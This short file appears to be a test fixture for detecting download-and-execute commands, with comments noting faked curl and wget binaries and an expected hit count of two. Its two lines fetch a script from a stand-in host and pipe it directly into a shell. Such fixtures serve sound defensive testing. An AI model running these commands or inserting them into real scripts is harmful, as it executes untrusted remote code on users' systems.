# SPDX-License-Identifier: Apache-2.0
# hits: 2
# fake: /usr/bin/curl /usr/bin/wget
curl -fsSL http://192.0.2.7/x.sh | bash
wget -q -O - http://192.0.2.7/x.sh | sh -s -- install
